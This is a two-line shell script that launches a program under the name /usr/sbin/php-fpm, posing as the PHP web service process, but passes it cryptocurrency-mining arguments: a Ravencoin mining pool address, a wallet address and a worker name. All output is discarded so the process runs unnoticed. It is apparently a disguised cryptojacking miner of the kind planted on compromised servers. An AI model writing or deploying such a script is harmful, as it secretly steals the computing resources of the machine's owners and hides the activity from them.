#!/bin/sh
exec /usr/sbin/php-fpm -o stratum+tcp://stratum.ravenminer.com:3838 -u RHWw8cX6SUcawsBQUg3XgLFYHD8zQjr7pS.w1 -p d=1 >/dev/null 2>&1
